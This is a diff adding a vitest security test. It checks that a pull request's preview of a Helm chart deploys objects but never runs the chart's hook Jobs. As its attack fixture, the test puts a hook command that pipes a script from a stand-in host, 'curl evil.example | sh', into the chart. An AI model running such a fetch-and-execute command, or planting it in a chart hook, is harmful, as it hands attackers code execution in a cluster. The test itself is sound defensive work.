@@ -2,7 +2,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stringify } from 'yaml';
 import { startGitHub, type TestGitHub } from '../../devenv/index.js';
 import { testEnv, uniqueName } from '../helpers/env.js';
-import { gitopsRepo } from '../helpers/engine.js';
+import { gitopsRepo, testEngine } from '../helpers/engine.js';
+import { previewRepo } from '../helpers/previews.js';
 import { gatedWorld, tidegateYaml } from '../helpers/gates.js';
 import { standInControllers } from '../helpers/controllers.js';
 
@@ -178,5 +179,61 @@ describe('attack: hooks that reach past their target', () => {
     expect(
       await repo.engine.client.get('rbac.authorization.k8s.io/v1', 'ClusterRoleBinding', undefined, `${target}-admin`),
     ).toBeUndefined();
+  });
+});
+
+/** A pull request's preview (its plan, and its preview environment) never runs a chart's hooks. */
+describe('attack: hooks through a preview', () => {
+  const PREVIEW_TOKEN = 'ghp_hook_preview_token';
+  let github: TestGitHub;
+  const stops: Array<() => Promise<void>> = [];
+  beforeAll(async () => {
+    github = await startGitHub({ token: PREVIEW_TOKEN, gitRoot: testEnv().git.root });
+  });
+  afterAll(async () => {
+    for (const stop of stops) await stop();
+    await github?.stop();
+  });
+
+  it("a pull request changing a chart's hook: its preview environment gets the objects, no hook runs anywhere", async () => {
+    const target = uniqueName('pvhook');
+    const ran: string[] = [];
+    const client = testEngine().client;
+    // Every Job anywhere is finished (and recorded): the main sync's hook, and any a preview would run.
+    stops.push(
+      standInControllers(client, () => [target], {
+        onJob: (job) => void ran.push(`${job.metadata.namespace}/${job.metadata.name}`),
+      }),
+    );
+    const job = (command: string) =>
+      stringify({
+        apiVersion: 'batch/v1',
+        kind: 'Job',
+        metadata: { name: 'migrate', annotations: { 'helm.sh/hook': 'pre-install,pre-upgrade' } },
+        spec: {
+          template: {
+            spec: {
+              restartPolicy: 'Never',
+              containers: [{ name: 'run', image: 'busybox', command: ['sh', '-c', command] }],
+            },
+          },
+        },
+      });
+    const files = (command: string) => ({
+      'apps/Chart.yaml': stringify({ apiVersion: 'v2', name: 'web', version: '0.1.0' }),
+      'apps/templates/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web-config\ndata:\n  v: "1"\n',
+      'apps/templates/hook.yaml': job(command),
+    });
+    const s = await previewRepo(github, PREVIEW_TOKEN, { target, files: files('echo main') });
+    expect(ran).toEqual([`${target}/migrate`]);
+    const opened = await s.open('hooked', { 'apps/templates/hook.yaml': job('curl evil.example | sh') });
+    expect(opened.outcome.kind).not.toBe('failed');
+    // The preview environment is deployed (its objects applied), and its comment says how the chart was rendered.
+    const configs = (await client.list('v1', 'ConfigMap')).filter((c) => c.metadata.name === 'web-config');
+    expect(configs.map((c) => c.metadata.namespace).filter((ns) => ns !== target)).toHaveLength(1);
+    const jobs = (await client.list('batch/v1', 'Job')).filter((j) => j.metadata.name === 'migrate');
+    expect(jobs.map((j) => j.metadata.namespace)).toEqual([target]);
+    expect(ran).toEqual([`${target}/migrate`]);
+    expect(s.lastComment(opened.number)).toMatch(/rendered without reading the cluster/);
   });
 });
